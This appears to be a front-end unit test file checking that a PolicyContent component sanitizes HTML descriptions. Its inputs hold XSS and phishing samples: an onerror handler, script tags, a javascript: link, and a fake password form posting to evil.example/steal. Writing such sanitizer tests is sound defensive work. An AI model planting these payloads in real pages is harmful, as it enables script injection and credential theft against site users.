import { screen } from '@testing-library/react';
import { renderWithProviders } from '../../../test/render';
import { PolicyContent } from './PolicyContent';

describe('PolicyContent', () => {
  it('shows HTML without its scripts and handlers', () => {
    const { container } = renderWithProviders(
      <PolicyContent description='<p>Held <strong>24 hours</strong></p><img src="x" onerror="alert(1)"><script>alert(2)</script>' />,
    );
    expect(screen.getByText('24 hours').tagName).toBe('STRONG');
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('img')?.getAttribute('onerror')).toBeNull();
  });

  it('shows HTML without forms, inputs, styles, frames or scripts, its text kept', () => {
    const { container } = renderWithProviders(
      <PolicyContent
        description={[
          '<p>Returns within <em>30 days</em>.</p>',
          '<style>body { display: none }</style>',
          '<form action="https://evil.example/steal"><label>Password <input type="password" name="pass"></label><button>Sign in again</button></form>',
          '<p style="position:fixed;inset:0">Covered</p>',
          '<iframe src="https://evil.example"></iframe>',
          '<select><option>a</option></select><textarea>t</textarea>',
          '<a href="javascript:alert(3)">Open</a>',
        ].join('')}
      />,
    );
    expect(screen.getByText('30 days').tagName).toBe('EM');
    expect(screen.getByText('Covered')).toBeInTheDocument();
    expect(
      container.querySelector('style, form, input, button, iframe, select, option, textarea'),
    ).toBeNull();
    expect(container.querySelector('[style]')).toBeNull();
    expect(container.querySelector('a')?.getAttribute('href')).toBeNull();
    expect(container.innerHTML).not.toMatch(/evil\.example|display: none/);
  });

  it('shows plain text as text, markup characters included', () => {
    renderWithProviders(<PolicyContent description={'Fees: 2 < 3\nsecond line'} />);
    expect(screen.getByText(/Fees: 2 < 3/)).toHaveTextContent('Fees: 2 < 3 second line');
  });

  it('says when there is no description', () => {
    renderWithProviders(<PolicyContent description="  " />);
    expect(screen.getByText('No description.')).toBeInTheDocument();
  });
});
